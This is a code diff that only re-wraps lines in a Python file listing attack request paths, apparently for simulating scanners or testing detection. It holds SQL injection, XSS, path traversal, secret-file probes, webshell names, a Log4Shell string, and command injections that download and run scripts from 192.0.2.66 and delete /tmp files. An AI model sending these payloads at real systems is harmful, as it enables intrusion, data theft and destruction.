@@ -25,24 +25,30 @@ RECON = ("/.env /.env.bak /.env.local /.git/config /.git/HEAD /.svn/entries /.aw
          "/struts2-showcase/ /web.config /WEB-INF/web.xml /docker-compose.yml /id_rsa "
          "/config.json /secrets.yml").split()
 # Names that no signature knows: only the number of missing pages tells.
-DIRECTORIES = tuple(f"/{first}{second}" for first in ("old", "new", "dev", "beta", "stage", "private")
+DIRECTORIES = tuple(f"/{first}{second}"
+                    for first in ("old", "new", "dev", "beta", "stage", "private")
                     for second in ("site", "files", "portal", "shop", "data", "web", "area"))
 SQL = ("/item?id=1%27%20OR%20%271%27=%271", "/item?id=-1%20UNION%20ALL%20SELECT%201,2,3--%20-",
        "/item?id=1%20AND%20SLEEP(5)", "/item?id=1;SELECT%20pg_sleep(5)--",
        "/item?id=1%27%20AND%20(SELECT%20COUNT(*)%20FROM%20information_schema.tables)%3E0--",
        "/item?id=benchmark(5000000,md5(1))", "/item?id=1%27%20waitfor%20delay%20%270:0:5%27--",
        "/item?id=extractvalue(1,concat(0x7e,version()))")
-XSS = ("/search?q=%3Cscript%3Ealert(1)%3C/script%3E", "/search?q=%22%3E%3Cimg%20src=x%20onerror=alert(1)%3E",
+XSS = ("/search?q=%3Cscript%3Ealert(1)%3C/script%3E",
+       "/search?q=%22%3E%3Cimg%20src=x%20onerror=alert(1)%3E",
        "/search?q=%3Csvg/onload=prompt(1)%3E", "/search?q=javascript:alert(document.cookie)",
        "/search?q=%27%3E%3Ciframe%20src=javascript:alert(2)%3E")
 TRAVERSAL = ("/download?file=../../../../etc/passwd", "/static/..%2f..%2f..%2f..%2fetc%2fpasswd",
              "/view?page=....//....//....//etc/passwd", "/cgi-bin/.%2e/.%2e/.%2e/.%2e/etc/passwd",
-             "/get?f=%252e%252e%252f%252e%252e%252fwindows%252fwin.ini", "/image?p=..%5c..%5cboot.ini")
+             "/get?f=%252e%252e%252f%252e%252e%252fwindows%252fwin.ini",
+             "/image?p=..%5c..%5cboot.ini")
 COMMANDS = ("/cgi-bin/test.cgi?;cat%20/etc/passwd", "/setup.cgi?cmd=wget+http://192.0.2.66/x.sh",
-            "/ping?host=127.0.0.1%7Cid", "/shell?cd+/tmp;rm+-rf+*;wget+http://192.0.2.66/jaws;sh+/tmp/jaws",
-            "/index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=system&vars[1][]=id",
+            "/ping?host=127.0.0.1%7Cid",
+            "/shell?cd+/tmp;rm+-rf+*;wget+http://192.0.2.66/jaws;sh+/tmp/jaws",
+            "/index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array"
+            "&vars[0]=system&vars[1][]=id",
             "/api?x=$(curl%20192.0.2.66)")
-SHELLS = ("/shell.php", "/c99.php", "/r57.php", "/wso.php", "/alfa.php", "/b374k.php", "/cmd.php?cmd=id")
+SHELLS = ("/shell.php", "/c99.php", "/r57.php", "/wso.php", "/alfa.php", "/b374k.php",
+          "/cmd.php?cmd=id")
 LOG4SHELL = "${jndi:ldap://192.0.2.66:1389/a}"
 
 
